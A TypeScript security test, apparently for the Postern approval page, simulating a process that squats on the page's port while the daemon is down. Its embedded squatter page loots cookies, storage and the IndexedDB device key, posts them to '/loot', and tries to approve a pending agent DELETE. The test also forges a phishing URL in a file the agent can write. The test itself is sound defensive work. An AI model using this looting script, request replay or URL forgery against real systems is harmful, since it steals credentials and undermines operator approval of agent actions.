/**
 * A process of the operator's OS user holds the approval page's port while
 * the daemon is not there (docs/threat-model.md, "The approval page"), with
 * the real daemon, the real CLI and a real Chromium tab paired as the
 * operator pairs it:
 *
 *   1. the daemon is stopped (SIGTERM); a plain node HTTP server binds the
 *      page's port at once and logs every request, headers and body;
 *   2. (the open tab) the tab loses its stream: it says it lost the daemon
 *      and sends nothing more — the squatter receives no credential;
 *   3. (a reload during the squat) the squatter serves a page whose script
 *      reads cookies, localStorage and IndexedDB, tries to export the device
 *      key, and stays resident in the tab;
 *   4. the squatter lets go; the daemon starts again on the same home; the
 *      agent asks for a DELETE that waits for approval;
 *   5. everything the squatter captured is tried against the real daemon:
 *      its logged requests sent again, the values it read, and the resident
 *      script driving the device key (the daemon's hello, a page token from
 *      a fetch of the page, from a window it opens, from a frame) to read the
 *      state and approve the DELETE.
 *
 * It ends in: no approval, the card still pending, the target never saw the
 * DELETE. Also: `page status` never prints a URL from run/approval-page.json
 * (a file the agent can write), and the page's run fingerprint is the one
 * the daemon reports.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { createServer as createNetServer } from 'node:net';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/client';
import type { Page } from 'playwright-core';
import { chromiumSkip, launchChromium, type Browser } from '../helpers/chromium.js';
import type { Installation } from '../helpers/daemon.js';
import type { FakeHttpServer } from '../helpers/fake-http.js';
import { canary, httpFixture } from '../helpers/fixture.js';
import { watchEvents, type EventWatch } from '../helpers/operator-events.js';
import { LOOT_SCRIPT, rawRequest, type OriginLoot } from '../helpers/page-device.js';

const skip = chromiumSkip();

interface Captured {
  readonly method: string;
  readonly url: string;
  readonly headers: Record<string, string>;
  readonly body: string;
}

/** The page a squatter serves to a tab that reloads: it takes what the origin holds, and stays to use the device key later. */
const SQUATTER_PAGE = `<!doctype html><html><head><meta charset="utf-8"><title>Postern approvals</title></head><body><p id="fake">Postern approvals</p><script>
const loot = ${LOOT_SCRIPT};
loot.then((l) => fetch('/loot', { method: 'POST', body: JSON.stringify(l) })).then(() => { document.body.setAttribute('data-looted', 'yes'); });
const enc = new TextEncoder();
const b64u = (b) => btoa(String.fromCharCode(...new Uint8Array(b))).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '');
const hex = (b) => [...new Uint8Array(b)].map((x) => x.toString(16).padStart(2, '0')).join('');
function record() {
  return new Promise((resolve) => {
    const r = indexedDB.open('postern', 1);
    r.onsuccess = () => { const g = r.result.transaction('device', 'readonly').objectStore('device').get('self'); g.onsuccess = () => resolve(g.result); };
  });
}
async function views() {
  const found = { none: '' };
  try { const html = await (await fetch('/', { credentials: 'include' })).text(); found.fetched = (/name="postern-view" content="([^"]*)"/.exec(html) || [])[1] || ''; } catch (e) { found.fetched = 'error ' + e.name; }
  const w = window.open('/', '_blank');
  for (let i = 0; i < 40 && found.opened === undefined; i++) {
    await new Promise((r) => setTimeout(r, 100));
    try { const m = w && w.document && w.document.querySelector('meta[name="postern-view"]'); if (m) found.opened = m.getAttribute('content'); } catch (e) { found.opened = 'no access: ' + e.name; }
  }
  if (found.opened === undefined) found.opened = w === null || w.closed ? 'no handle (closed: ' + (w === null ? 'null' : w.closed) + ')' : 'nothing readable';
  const f = document.createElement('iframe');
  f.src = '/';
  document.body.appendChild(f);
  await new Promise((r) => { f.onload = r; setTimeout(r, 3000); });
  try { const m = f.contentDocument && f.contentDocument.querySelector('meta[name="postern-view"]'); found.framed = m ? m.getAttribute('content') : 'no meta'; } catch (e) { found.framed = 'no access: ' + e.name; }
  return found;
}
window.__attack = async (card) => {
  const rec = await record();
  const h = await (await fetch('/api/hello', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ challenge: b64u(crypto.getRandomValues(new Uint8Array(32))) }) })).json();
  const found = await views();
  let n = 0;
  const send = async (view, method, path, payload) => {
    const body = payload === undefined ? '' : JSON.stringify(payload);
    const counter = ++n;
    const msg = ['postern approval-page request v1', location.origin, h.run, view, rec.id, method, path, hex(await crypto.subtle.digest('SHA-256', enc.encode(body))), String(counter)].join('\\n');
    const sig = b64u(await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, rec.key, enc.encode(msg)));
    const headers = { 'X-Postern-Device': rec.id, 'X-Postern-View': view, 'X-Postern-Proof': counter + '.' + sig };
    if (body !== '') headers['Content-Type'] = 'application/json';
    const r = await fetch(path, { method, headers, body: body === '' ? undefined : body, credentials: 'include' });
    return { status: r.status, json: await r.json().catch(() => ({})) };
  };
  const tried = [];
  for (const [how, view] of Object.entries(found)) {
    const state = await send(view, 'GET', '/api/state');
    const c = state.status === 200 ? state.json.cards.find((x) => x.id === card.id) : undefined;
    const decided = await send(view, 'POST', '/api/decide', { card_id: card.id, digest: card.digest, nonce: c ? c.nonce : '0'.repeat(32), verdict: 'approve', scope: 'once' });
    tried.push({ how, view, state: state.status, stateCode: state.json.error ? state.json.error.code : null, decide: decided.status, decideCode: decided.json.error ? decided.json.error.code : null });
  }
  return { hello: typeof h.signature === 'string', found, tried };
};
document.body.setAttribute('data-resident', 'yes');
</script></body></html>`;

/** A plain HTTP server on the page's port that logs every request; `page` serves the looting page at `/`. */
async function squat(port: number, log: Captured[], loot: OriginLoot[]): Promise<Server> {
  const server = createServer((req: IncomingMessage, res: ServerResponse) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      log.push({ method: req.method ?? '', url: req.url ?? '', headers: Object.fromEntries(Object.entries(req.headers).map(([k, v]) => [k, String(v)])), body });
      if (req.url === '/loot') loot.push(JSON.parse(body) as OriginLoot);
      if (req.method === 'GET' && (req.url === '/' || req.url === '/index.html')) {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        res.end(SQUATTER_PAGE);
        return;
      }
      // Anything else: what a page might accept as an answer (a state with no cards, a hello with a made-up key).
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(req.url === '/api/hello' ? { page_key: `B${'A'.repeat(86)}`, run: 'squatted', signature: 'A'.repeat(86) } : { now: new Date(0).toISOString(), cards: [], activity: [], devices: [] }));
    });
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, '127.0.0.1', () => resolve());
  });
  return server;
}

function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const s = createNetServer();
    s.once('error', reject);
    s.listen(0, '127.0.0.1', () => {
      const { port } = s.address() as { port: number };
      s.close(() => resolve(port));
    });
  });
}

/** What the resident script reports of its attempts. */
interface Attack {
  readonly hello: boolean;
  readonly found: Record<string, string>;
  readonly tried: readonly { how: string; state: number; decide: number; stateCode: string | null; decideCode: string | null }[];
}

/** Headers that carry device material, in anything the squatter received. */
const CREDENTIAL_HEADERS = ['cookie', 'x-postern-device', 'x-postern-proof', 'x-postern-view', 'x-postern-page', 'authorization'];

describe('the approval page while another process holds its port', { skip }, () => {
  let inst: Installation;
  let target: FakeHttpServer;
  let browser: Browser;
  let page: Page;
  let port: number;
  let url: string;
  let deviceId: string;
  let runPrinted: string;
  const log: Captured[] = [];
  const loot: OriginLoot[] = [];
  let events: EventWatch | undefined;
  let agent: Client | undefined;

  before(async () => {
    ({ http: target, inst } = await httpFixture({
      token: canary('squat'),
      config: { approval_timeout_seconds: 300, approval_wait_without_progress_seconds: 1 },
      tools: { delete_app: { description: 'Delete the app.', effect: 'destructive', approval: 'per-call', revisions: [{ revision: 1, input: { type: 'object', properties: {} }, http: { target: 'local', method: 'DELETE', path: '/srv/app' } }] } },
      start: false,
    }));
    port = await freePort();
    const enabled = await inst.sb.run(['approvals', 'page', 'enable', '--port', String(port), '--passphrase-file', inst.passFile]);
    assert.equal(enabled.code, 0, enabled.stderr);
    await inst.startDaemon();
    url = `http://127.0.0.1:${port}/`;
    browser = await launchChromium();
    page = await browser.context.newPage();
  });
  after(async () => {
    events?.close();
    await agent?.close();
    await browser?.close();
    await inst?.cleanup();
    await target?.close();
  });

  it('pairs the tab; `page status` prints the URL and run the daemon reports, never a URL from run/approval-page.json', async () => {
    await page.goto(url);
    await page.waitForSelector('#pair:not([hidden])');
    const r = await inst.sb.run(['approvals', 'pair', '--name', 'phone', '--passphrase-file', inst.passFile]);
    assert.equal(r.code, 0, r.stderr);
    runPrinted = /run ([A-Z0-9]{4}-[A-Z0-9]{4})/.exec(r.stdout)?.[1] ?? '';
    await page.goto(/open[^\n]*:\n(\S+)/.exec(r.stdout)?.[1] ?? '');
    await page.click('#pair-submit');
    await page.waitForSelector('#app[data-ready="yes"]');
    assert.equal(await page.textContent('#run'), `run ${runPrinted}`);
    deviceId = ((await page.textContent('#who')) ?? '').replace(/^.*\(([0-9a-f]{16})\)$/, '$1');
    // The agent writes the run file (it can): a forged URL there is never shown to the operator.
    const info = join(inst.sb.home, 'run', 'approval-page.json');
    const real = JSON.parse(await readFile(info, 'utf8')) as { pid: number };
    await writeFile(info, JSON.stringify({ url: 'http://127.0.0.1:1/phish', pid: real.pid, tls_sha256: null }));
    const status = await inst.sb.run(['approvals', 'page', 'status', '--passphrase-file', inst.passFile]);
    assert.equal(status.code, 0, status.stderr);
    assert.ok(!status.stdout.includes('phish') && !status.stdout.includes('127.0.0.1:1/'), status.stdout);
    assert.ok(status.stdout.includes(`page: ${url} (as the daemon reports it), run ${runPrinted}`), status.stdout);
  });

  it('the open tab: the daemon stops, the squatter binds the port: the tab says it lost the daemon and sends the squatter nothing', async () => {
    await inst.stopDaemon('SIGTERM');
    const server = await squat(port, log, loot);
    try {
      await page.waitForSelector('body[data-stopped="DAEMON_LOST"]');
      assert.match((await page.textContent('#status')) ?? '', /lost the daemon — reload when postern is running again/);
      // Whatever the tab might still do, it does it through device.js, which is stopped: a signed request now is refused before it is sent.
      const tried = await page.evaluate(async () => {
        const m = (await import(['', 'device.js'].join('/'))) as { open(): Promise<unknown> };
        return m.open().then(() => 'sent', (e: Error) => e.message);
      });
      assert.match(tried, /lost the daemon/);
      assert.equal(log.length, 0, `the squatter received: ${JSON.stringify(log)}`);
    } finally {
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  });

  it('a reload during the squat: the squatter\'s page takes what the origin holds — no cookie, nothing in localStorage, a key that does not export', async () => {
    const server = await squat(port, log, loot);
    try {
      await page.reload();
      await page.waitForSelector('body[data-looted="yes"]');
      assert.equal(loot.length, 1);
      const l = loot[0]!;
      assert.deepEqual([l.cookie, l.local, l.record?.id, l.record?.extractable], ['', {}, deviceId, false]);
      assert.match(l.exported, /^refused: InvalidAccessError$/);
      for (const c of log) for (const h of CREDENTIAL_HEADERS) assert.equal(c.headers[h], undefined, `${c.method} ${c.url} carried ${h}`);
      await page.waitForSelector('body[data-resident="yes"]');
    } finally {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  });

  it('the daemon is back: nothing the squatter captured approves the agent\'s DELETE; the resident script cannot drive the device key', async () => {
    await inst.startDaemon();
    events = await watchEvents(() => inst.operator());
    agent = await inst.client({ name: 'squatter' });
    const parked = (await agent.callTool({ name: 'delete_app', arguments: { idempotency_key: `k-${randomBytes(6).toString('hex')}` } })) as { structuredContent?: Record<string, unknown> };
    assert.equal(parked.structuredContent?.['error_code'], 'APPROVAL_PENDING');
    const card = (await events.client.request('approvals.list', {})).find((c) => c.tool === 'delete_app');
    assert.ok(card !== undefined);

    // Every request the squatter logged, sent again to the real daemon.
    const host = `127.0.0.1:${port}`;
    for (const c of log) {
      const r = await rawRequest(port, c.method, c.url, { ...c.headers, host }, c.body);
      if (c.url.startsWith('/api/') && c.url !== '/api/hello') assert.notEqual(r.status, 200, `${c.method} ${c.url} replayed`);
    }
    // The values it read, used as credentials.
    const stolen = loot[0]!;
    for (const [k, v] of Object.entries({ 'x-postern-device': stolen.record?.id ?? '', cookie: `postern_device=${stolen.record?.id ?? ''}.${'A'.repeat(43)}`, 'x-postern-proof': `1.${'A'.repeat(86)}` })) {
      const r = await rawRequest(port, 'GET', '/api/state', { host, 'x-postern-device': stolen.record?.id ?? '', [k]: v });
      assert.ok(r.status === 401 || r.status === 403, `${k}: ${r.status} ${r.text}`);
    }
    // The resident script, with the device key it holds, against the real daemon.
    const attack = await page.evaluate<Attack>(`window.__attack(${JSON.stringify({ id: card.id, digest: card.call_digest })})`);
    assert.equal(attack.hello, true, 'the daemon signs a hello for anyone (that proves the daemon, it authorizes nothing)');
    assert.equal(attack.found['fetched'], '', 'a fetch of the page gets no page token');
    assert.doesNotMatch(attack.found['opened'] ?? '', /^[A-Za-z0-9_-]{32}$/, 'a window it opens is not readable (Cross-Origin-Opener-Policy)');
    assert.doesNotMatch(attack.found['framed'] ?? '', /^[A-Za-z0-9_-]{32}$/, 'a frame of the page is refused (frame-ancestors, X-Frame-Options)');
    assert.deepEqual(attack.tried.map((t) => t.how), ['none', 'fetched', 'opened', 'framed'], JSON.stringify(attack));
    for (const t of attack.tried) {
      assert.deepEqual([t.how, t.state, t.stateCode], [t.how, 401, 'DEVICE_PROOF_INVALID'], JSON.stringify(t));
      assert.deepEqual([t.how, t.decide, t.decideCode], [t.how, 401, 'DEVICE_PROOF_INVALID'], JSON.stringify(t));
    }
    const still = (await events.client.request('approvals.list', {})).find((c) => c.id === card.id);
    assert.ok(still !== undefined, 'the DELETE still waits for the operator');
    assert.equal(events.events.filter((e) => e.event.type === 'approval.resolved').length, 0, 'nothing was decided');
    assert.equal(target.requests.filter((r) => r.method === 'DELETE').length, 0, 'the target never saw the DELETE');
    const denied = await inst.sb.run(['approvals', 'deny', card.id.slice(0, 8), '--passphrase-file', inst.passFile]);
    assert.equal(denied.code, 0, denied.stderr);
    assert.equal(target.requests.filter((r) => r.method === 'DELETE').length, 0);
  });
});
